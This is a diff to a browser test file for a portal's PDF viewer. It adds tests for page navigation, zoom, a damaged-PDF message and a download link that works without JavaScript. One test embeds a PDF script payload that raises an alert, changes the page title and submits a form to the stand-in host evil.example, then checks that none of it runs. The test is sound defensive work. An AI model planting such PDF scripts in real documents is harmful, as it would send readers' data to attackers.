@@ -2,6 +2,7 @@
 import { readFileSync } from 'node:fs';
 import { beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
 import type { Page } from 'playwright-core';
+import { eventually } from '../support/eventually.ts';
 import type { Tenant } from '../support/tenants.ts';
 import { checkPage } from './support/check-page.ts';
 import { describeInBrowser } from './support/describe-in-browser.ts';
@@ -158,12 +159,75 @@ describeInBrowser('the artifacts of the portal', (browser) => {
       expect(await response.body()).toEqual(PNG);
     });
 
-    test('stores a PDF as a document to show its text', async () => {
+    /** Number of pixels of the shown page that are not white. */
+    const inkOf = (): Promise<number> =>
+      page.evaluate(`(() => {
+        const canvas = document.querySelector('.pdf-page canvas');
+        const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height);
+        let dark = 0;
+        for (let at = 0; at < data.length; at += 4) if (data[at] < 128) dark += 1;
+        return dark;
+      })()`);
+
+    test('shows the pages of a PDF one by one, with the keyboard, and none of its scripts and links', async () => {
+      const attack =
+        "app.alert\\('x'\\);document.title='attacked';this.submitForm\\('https://evil.example/'\\)";
+      const pdf = textPdf(['The kettle whistles at noon.', 'The tea is served at four.', 'The end.'], attack);
+      const content = { path: '/files/menu.pdf', content: pdf.toString('base64'), encoding: 'base64' };
+      await tenant.data('POST', '/api/v2/artifacts', content);
+      const requests: string[] = [];
+      page.on('request', (request) => requests.push(request.url()));
+      page.on('dialog', (dialog) => requests.push(`dialog ${dialog.message()}`));
+      await open('menu.pdf');
+      await page.locator('.pdf-text', { hasText: 'The kettle whistles at noon.' }).waitFor();
+      expect(await inkOf()).toBeGreaterThan(100);
+      await page.getByText('of 3').waitFor();
+      await checkPage(page, 'artifact-pdf-pages');
+      await page.getByRole('button', { name: 'Next page' }).press('Enter');
+      await page.locator('.pdf-text', { hasText: 'The tea is served at four.' }).waitFor();
+      await page.locator('.pdf-view').focus();
+      await page.keyboard.press('ArrowRight');
+      await page.locator('.pdf-text', { hasText: 'The end.' }).waitFor();
+      expect(await page.getByRole('button', { name: 'Next page' }).isDisabled()).toBe(true);
+      await page.keyboard.press('ArrowRight');
+      await page.keyboard.press('ArrowLeft');
+      await page.locator('.pdf-text', { hasText: 'The tea is served at four.' }).waitFor();
+      await page.locator('.pdf-toolbar input').fill('1');
+      await page.keyboard.press('Enter');
+      await page.locator('.pdf-text', { hasText: 'The kettle whistles at noon.' }).waitFor();
+      const width = async () => (await page.locator('.pdf-page').boundingBox())!.width;
+      const before = await width();
+      await page.getByRole('button', { name: 'Larger' }).click();
+      await eventually(async () => expect(await width()).toBeGreaterThan(1.4 * before));
+      await page.locator('.pdf-view').click();
+      expect(await page.title()).toBe('/files/menu.pdf · Loci');
+      const { portalUrl } = browser.platform();
+      expect(requests.filter((url) => !url.startsWith(portalUrl))).toEqual([]);
+      expect(await page.locator('.pdf-page a').count()).toBe(0);
+    });
+
+    test('explains that a damaged PDF cannot be shown, and offers a download without JavaScript', async () => {
+      const damaged = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from([0xff, 0xfe, 0])]);
+      const content = { path: '/files/damaged.pdf', content: damaged.toString('base64'), encoding: 'base64' };
+      await tenant.data('POST', '/api/v2/artifacts', content);
+      await open('damaged.pdf');
+      await page.getByRole('alert').getByText('The PDF cannot be shown.').waitFor();
+      const { page: plain } = await browser.signIn({
+        tenant,
+        path: '/artifacts/file?path=/files/damaged.pdf',
+        context: { javaScriptEnabled: false },
+      });
+      await plain.getByRole('link', { name: 'Download the PDF to read it.' }).waitFor();
+    });
+
+    test('stores a PDF as a document, which shows its text and its pages', async () => {
       await open('tea.pdf');
-      await checkPage(page, 'artifact-pdf');
       await page.getByRole('button', { name: 'Store as a document' }).click();
       await page.getByText('The kettle whistles at noon.').first().waitFor();
       await page.getByText('/files/tea.pdf is stored as a document.').waitFor();
+      await page.getByRole('button', { name: 'Show the pages' }).press('Enter');
+      await page.locator('.pdf-text', { hasText: 'The kettle whistles at noon.' }).waitFor();
+      expect(await inkOf()).toBeGreaterThan(100);
     });
 
     test('explains that a file of another type is not shown', async () => {
